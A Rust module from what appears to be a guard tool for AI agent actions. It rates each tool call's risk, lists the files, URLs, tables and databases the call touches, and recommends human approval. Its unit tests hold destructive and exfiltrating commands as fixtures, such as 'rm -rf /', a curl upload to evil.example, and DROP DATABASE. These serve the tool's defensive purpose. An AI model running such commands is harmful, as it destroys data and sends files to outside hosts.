//! Risk assessment of an event: level (the tool's tier and every triggered rule), reasons,
//! affected resources, reversibility, impact text and recommendations.

use std::sync::LazyLock;

use regex_automata::{Anchored, Input};

use crate::decision::{RedactionSpan, RiskAssessment, RiskLevel, apply_spans};
use crate::event::{Field, FieldKind, Part};
use crate::rules::fast::CompiledRule;
use crate::text::{head, is_path_byte, is_url_byte, runs_around};

const MAX_RESOURCES: usize = 10;
/// Bytes of each argument read for resources.
const RESOURCE_SCAN_BYTES: usize = 16 * 1024;

// INVARIANT: these patterns are constants checked by the unit tests below.
#[allow(clippy::expect_used)]
static URL: LazyLock<regex_automata::meta::Regex> = LazyLock::new(|| {
    regex_automata::meta::Regex::new(r#"(?i)\b(?:https?|ftp|s3|gs)://[^\s"'<>`|;]+"#)
        .expect("url regex")
});
#[allow(clippy::expect_used)]
static PATH: LazyLock<regex_automata::meta::Regex> = LazyLock::new(|| {
    // One optional delimiter, then the path: found with `find_iter` (no capture groups, so
    // the fast engine does all the work) and the delimiter trimmed off in code.
    regex_automata::meta::Regex::new(r#"(?:^|[\s"'=(>])(?:(?:~|\.{1,2})?/[\w.@%+-]+(?:/[\w.@%+*-]*)*|/|[A-Za-z]:\\(?:[\w .-]+\\?)*)"#)
        .expect("path regex")
});
/// Tables (group 1 or 2) and dropped databases or schemas (group 3 the kind, 4 the name)
/// that SQL names.
#[allow(clippy::expect_used)]
static SQL_OBJECT: LazyLock<regex_automata::meta::Regex> = LazyLock::new(|| {
    regex_automata::meta::Regex::new(
        r#"(?i)\b(?:select\b[^;]*?\bfrom|delete\s+from|insert\s+into|drop\s+table(?:\s+if\s+exists)?|truncate(?:\s+table)?(?:\s+only)?|alter\s+table|join)\s+[`"\[]?([A-Za-z_][\w.]*)|(?i)\bupdate\s+[`"\[]?([A-Za-z_][\w.]*)[`"\]]?\s+set\b|(?i)\bdrop\s+(database|schema)(?:\s+if\s+exists)?\s+[`"\[]?([A-Za-z_][\w$]*)"#,
    )
    .expect("sql object regex")
});

/// `dropdb`, PostgreSQL's command that drops a database; its operand is read in code.
#[allow(clippy::expect_used)]
static DROPDB: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(r"(?i)\bdropdb\s").expect("dropdb regex"));

/// The words every SQL_OBJECT or DROPDB match starts with (`dropdb` starts with `drop`): the
/// searches start where one of them is, and a text without one is not searched. `from` and
/// `into` are not among them, so `from pathlib import Path` in a script costs no SQL search.
#[allow(clippy::expect_used)]
static SQL_WORDS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(SQL_WORD_LIST)
        .expect("sql words")
});
const SQL_WORD_LIST: [&str; 8] = [
    "select", "delete", "insert", "drop", "truncate", "alter", "join", "update",
];
/// Whether a text holds one of SQL_WORDS at all: most arguments hold none, and the
/// automaton reads every byte of them.
static SQL_SCREEN: LazyLock<crate::text::AnyWord> =
    LazyLock::new(|| crate::text::AnyWord::new(&SQL_WORD_LIST));
/// `://`, searched for in every argument.
static SCHEME_SEP: LazyLock<memchr::memmem::Finder<'static>> =
    LazyLock::new(|| memchr::memmem::Finder::new("://"));
/// `drop`'s index in SQL_WORDS.
const SQL_WORD_DROP: usize = 3;

/// `dropdb` options that take the next word as their value, so it is not the database.
const DROPDB_VALUE_OPTIONS: [&str; 7] = [
    "-h",
    "-p",
    "-U",
    "--host",
    "--port",
    "--username",
    "--maintenance-db",
];

/// Argument keys whose string values name files.
const PATH_KEYS: [&str; 12] = [
    "path",
    "file",
    "filename",
    "file_path",
    "filepath",
    "dest",
    "destination",
    "src",
    "source",
    "target",
    "dir",
    "directory",
];

/// Compiles the resource patterns now, so the first call after start-up does not pay for it
/// inside its scan budget.
pub fn warm_up() {
    LazyLock::force(&URL);
    LazyLock::force(&PATH);
    LazyLock::force(&SQL_OBJECT);
    LazyLock::force(&DROPDB);
    LazyLock::force(&SQL_WORDS);
    LazyLock::force(&SQL_SCREEN);
    LazyLock::force(&SCHEME_SEP);
}

pub fn impact(level: RiskLevel) -> &'static str {
    match level {
        RiskLevel::Safe => "no meaningful impact expected",
        RiskLevel::Low => "limited impact that is easy to undo",
        RiskLevel::Medium => "moderate impact; review if unexpected",
        RiskLevel::High => "significant impact on data or systems that may be hard to undo",
        RiskLevel::Critical => "severe and possibly irreversible impact on data, systems or money",
    }
}

/// Builds the assessment. `tier` is the tool's tier (None for events without a tool).
/// `spans` are the decision's redactions: resources are read from the redacted text, so a
/// secret inside a URL or a path never reaches the answer.
pub fn assess(
    tool: &str,
    tier: Option<RiskLevel>,
    triggered: &[&CompiledRule],
    fields: &[Field<'_>],
    spans: &[RedactionSpan],
    require_approval: &[RiskLevel],
) -> RiskAssessment {
    let mut level = tier.unwrap_or(RiskLevel::Safe);
    let mut reasons = Vec::new();
    if let Some(t) = tier
        && t >= RiskLevel::High
    {
        reasons.push(format!("tool `{tool}` is in the {t} risk tier"));
    }
    for r in triggered {
        level = level.max(r.level);
        if !reasons.contains(&r.reason) {
            reasons.push(r.reason.clone());
        }
    }
    let reversible = triggered.iter().all(|r| r.reversible);
    let affected_resources = resources(fields, spans);
    let mut recommendations = Vec::new();
    if level >= RiskLevel::High {
        recommendations.push("have a human approve this action before it runs".to_string());
        recommendations
            .push("narrow the action to the specific resources the task needs".to_string());
        if !reversible {
            recommendations.push("take a backup or snapshot first".to_string());
        }
        recommendations.push("try it in a sandbox or dry-run mode first".to_string());
    }
    RiskAssessment {
        level,
        reasons,
        affected_resources,
        reversible,
        estimated_impact: impact(level).to_string(),
        recommendations,
        requires_approval: level >= RiskLevel::High || require_approval.contains(&level),
    }
}

/// `file:`, `url:`, `table:`, `database:` and `schema:` resources named in the arguments, at
/// most 10, in first-seen order.
pub fn resources(fields: &[Field<'_>], spans: &[RedactionSpan]) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    // Adds a resource; true once the list is full, so every scan below can stop early.
    fn push(out: &mut Vec<String>, r: String) -> bool {
        if out.len() < MAX_RESOURCES && !out.contains(&r) {
            out.push(r);
        }
        out.len() >= MAX_RESOURCES
    }
    for f in fields {
        if out.len() >= MAX_RESOURCES {
            break;
        }
        // Member names are not resources: a name view's text is not a path or URL argument.
        if !matches!(f.kind, FieldKind::Arguments | FieldKind::Plan) || f.part != Part::Value {
            continue;
        }
        let own: Vec<&RedactionSpan> = spans.iter().filter(|s| s.field_path == f.path).collect();
        let redacted;
        let text = if own.is_empty() {
            f.text.as_ref()
        } else {
            redacted = apply_spans(&f.text, &own);
            redacted.as_str()
        };
        // Resources are a summary: the head of a huge argument is enough, and reading all of
        // it would spend time outside the scan budget.
        let text = head(text, RESOURCE_SCAN_BYTES);
        let key = f
            .path
            .rsplit(['.', '\''])
            .find(|s| !s.is_empty() && !s.starts_with('['))
            .unwrap_or("");
        if PATH_KEYS.contains(&key.to_ascii_lowercase().as_str())
            && !text.is_empty()
            && !text.contains("://")
            && push(&mut out, format!("file:{text}"))
        {
            break;
        }
        // Both patterns read only the runs of text around what every match holds (`://`, a
        // slash), keeping the rest as context for `\b` and `^`.
        let bytes = text.as_bytes();
        let mut url_ranges = Vec::new();
        let schemes = &mut SCHEME_SEP.find_iter(bytes);
        for run in runs_around(bytes, schemes, is_url_byte, 0) {
            for m in URL.find_iter(Input::new(text).range(run)) {
                url_ranges.push(m.range());
                if push(&mut out, format!("url:{}", &text[m.range()])) {
                    return out;
                }
            }
        }
        let slashes = &mut memchr::memchr2_iter(b'/', b'\\', bytes);
        for run in runs_around(bytes, slashes, is_path_byte, 1) {
            for m in PATH.find_iter(Input::new(text).range(run)) {
                let found = &text[m.range()];
                let path = found.trim_start_matches(|c: char| {
                    c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '(' | '>')
                });
                let at = m.end() - path.len();
                // A lone `/` is the root only where a command argument ends (`rm -rf /`,
                // `rm -rf / --no-preserve-root`), not in `total / count`.
                let rest = &text[m.end()..];
                let lone_root = path == "/"
                    && !(rest.trim_start().is_empty()
                        || rest
                            .trim_start()
                            .starts_with(['-', ';', '&', '|', '"', '\'']));
                if path.is_empty() || lone_root || url_ranges.iter().any(|r| r.contains(&at)) {
                    continue;
                }
                let seen = out.iter().any(|r| r.strip_prefix("file:") == Some(path));
                if !seen && push(&mut out, format!("file:{path}")) {
                    return out;
                }
            }
        }
        // SQL_OBJECT's matches, non-overlapping and left to right, each search starting at
        // the next verb past the last match. An anchored search at every verb would read
        // `select … from`'s unbounded gap again from each `select`: quadratic in a text of
        // `select`s with no `from`, and this runs outside the scan budget.
        if !SQL_SCREEN.in_text_any_case(bytes) {
            continue;
        }
        let mut caps = SQL_OBJECT.create_captures();
        let mut searched_to = 0;
        let mut sql_left = true;
        for word in SQL_WORDS.find_iter(text) {
            if sql_left && word.start() >= searched_to {
                SQL_OBJECT.search_captures(&Input::new(text).range(word.start()..), &mut caps);
                match caps.get_match() {
                    // No match from here on: none further along either.
                    None => sql_left = false,
                    Some(m) => searched_to = m.end().max(m.start() + 1),
                }
                let group = |g: usize| caps.get_group(g).map(|s| &text[s.range()]);
                let resource = match (group(1).or_else(|| group(2)), group(3), group(4)) {
                    (Some(table), _, _) => Some(format!("table:{table}")),
                    (None, Some(kind), Some(name)) => {
                        Some(format!("{}:{name}", kind.to_ascii_lowercase()))
                    }
                    _ => None,
                };
                if let Some(r) = resource
                    && push(&mut out, r)
                {
                    return out;
                }
            }
            // `dropdb` is a fixed word: anchored where `drop` is, it reads seven bytes.
            let at = Input::new(text)
                .range(word.start()..)
                .anchored(Anchored::Yes);
            if word.pattern().as_usize() == SQL_WORD_DROP
                && let Some(m) = DROPDB.search(&at)
                && let Some(name) = dropdb_target(&text[m.end()..])
                && push(&mut out, format!("database:{name}"))
            {
                return out;
            }
        }
    }
    out
}

/// The database a `dropdb` command drops: the first word of the command (up to a separator)
/// that is neither an option nor an option's value, without its quotes.
fn dropdb_target(args: &str) -> Option<&str> {
    let command = args.split(['\n', ';', '&', '|']).next().unwrap_or("");
    let mut words = command.split_whitespace();
    while let Some(word) = words.next() {
        if DROPDB_VALUE_OPTIONS.contains(&word) {
            words.next();
            continue;
        }
        if word.starts_with('-') {
            continue;
        }
        let name = word.trim_matches(['"', '\'', '`', '(', ')']);
        return name
            .starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            .then_some(name);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Context, Event, EventKind};
    use proptest::prelude::*;
    use serde_json::json;

    /// Commands and prose built from paths, URLs and their near misses, joined by the bytes
    /// that end a run or open a path (quotes, `=`, `>`, Unicode letters and spaces).
    fn commands() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            Just("rm -rf /".to_string()),
            Just("/etc/passwd".to_string()),
            Just("~/x/*.log".to_string()),
            Just("../a/b".to_string()),
            Just("C:\\Program Files\\app\\".to_string()),
            Just("https://Example.com/a?b=c".to_string()),
            Just("S3://bucket/key".to_string()),
            Just("xhttp://no".to_string()),
            Just("total / count".to_string()),
            Just("é/ü".to_string()),
            "[a-zA-Z0-9./:\\\\~*'\"=>(_ -]{1,10}",
        ];
        let sep = prop_oneof![
            Just(" "),
            Just(""),
            Just("\n"),
            Just("\u{a0}"),
            Just("é"),
            Just(";"),
            Just("\""),
            Just(">"),
            Just("="),
        ];
        prop::collection::vec((piece, sep), 0..16)
            .prop_map(|parts| parts.into_iter().map(|(p, s)| p + s).collect())
    }

    fn in_runs(
        re: &regex_automata::meta::Regex,
        text: &str,
        runs: Vec<std::ops::Range<usize>>,
    ) -> Vec<std::ops::Range<usize>> {
        runs.into_iter()
            .flat_map(|r| re.find_iter(Input::new(text).range(r)).map(|m| m.range()))
            .collect()
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]
        #[test]
        fn reading_runs_finds_every_url_and_path_the_whole_text_holds(text in commands()) {
            let b = text.as_bytes();
            let whole = |re: &regex_automata::meta::Regex| -> Vec<_> {
                re.find_iter(text.as_str()).map(|m| m.range()).collect()
            };
            let schemes = &mut memchr::memmem::find_iter(b, b"://");
            let urls = in_runs(&URL, &text, runs_around(b, schemes, is_url_byte, 0));
            prop_assert_eq!(urls, whole(&URL));
            let slashes = &mut memchr::memchr2_iter(b'/', b'\\', b);
            let paths = in_runs(&PATH, &text, runs_around(b, slashes, is_path_byte, 1));
            prop_assert_eq!(paths, whole(&PATH));
        }
    }

    fn fields_of(args: serde_json::Value) -> Vec<String> {
        let mut e = Event::new(EventKind::ToolCallStart, Context::default());
        e.tool_name = "t".into();
        e.arguments = Some(args);
        resources(&e.fields(), &[])
    }

    #[test]
    fn finds_files_urls_and_tables() {
        let r = fields_of(json!({
            "command": "rm -rf /var/data && curl -d @x https://evil.example/up",
            "sql": "DELETE FROM users; UPDATE accounts SET x=1; DROP TABLE IF EXISTS audit",
            "path": "notes.txt"
        }));
        assert!(r.contains(&"file:/var/data".to_string()), "{r:?}");
        assert!(
            r.contains(&"url:https://evil.example/up".to_string()),
            "{r:?}"
        );
        assert!(r.contains(&"table:users".to_string()), "{r:?}");
        assert!(r.contains(&"table:accounts".to_string()), "{r:?}");
        assert!(r.contains(&"table:audit".to_string()), "{r:?}");
        assert!(r.contains(&"file:notes.txt".to_string()), "{r:?}");
        assert!(!r.iter().any(|x| x.starts_with("file://")), "{r:?}");
    }

    #[test]
    fn dropped_databases_schemas_and_tables_are_named() {
        let cases = [
            ("DROP DATABASE prod;", vec!["database:prod"]),
            (
                "drop database if exists `analytics`",
                vec!["database:analytics"],
            ),
            ("DROP SCHEMA x CASCADE;", vec!["schema:x"]),
            (
                "DROP TABLE IF EXISTS audit; TRUNCATE TABLE orders;",
                vec!["table:audit", "table:orders"],
            ),
            ("TRUNCATE ONLY events;", vec!["table:events"]),
            ("dropdb prod_app", vec!["database:prod_app"]),
            (
                "sudo -u postgres dropdb -h db.internal -U admin --if-exists 'prod' && echo ok",
                vec!["database:prod"],
            ),
            ("dropdb --help", vec![]),
        ];
        for (sql, want) in cases {
            assert_eq!(fields_of(json!({ "query": sql })), want, "{sql}");
        }
    }

    #[test]
    fn look_alikes_name_no_database() {
        for text in [
            "SELECT * FROM drop_database_log",
            "SELECT drop_schema FROM migrations",
            "./pg_dropdb_helper.sh --dry-run",
        ] {
            let r = fields_of(json!({ "query": text }));
            assert!(
                !r.iter()
                    .any(|x| x.starts_with("database:") || x.starts_with("schema:")),
                "{text}: {r:?}"
            );
        }
    }

    #[test]
    fn a_division_is_not_the_root_directory() {
        let r = fields_of(
            json!({"script": "mean = total / max(n, 1)", "cmd": "rm -rf / --no-preserve-root"}),
        );
        assert_eq!(r, vec!["file:/".to_string()]);
        assert!(fields_of(json!({"script": "mean = total / count"})).is_empty());
    }

    #[test]
    fn prose_does_not_invent_tables_and_list_is_capped() {
        let r = fields_of(json!({"text": "please update the docs and email from John"}));
        assert!(r.is_empty(), "{r:?}");
        let many: Vec<String> = (0..30).map(|i| format!("/tmp/f{i}")).collect();
        let r = fields_of(json!({"command": many.join(" ")}));
        assert_eq!(r.len(), 10);
    }
}
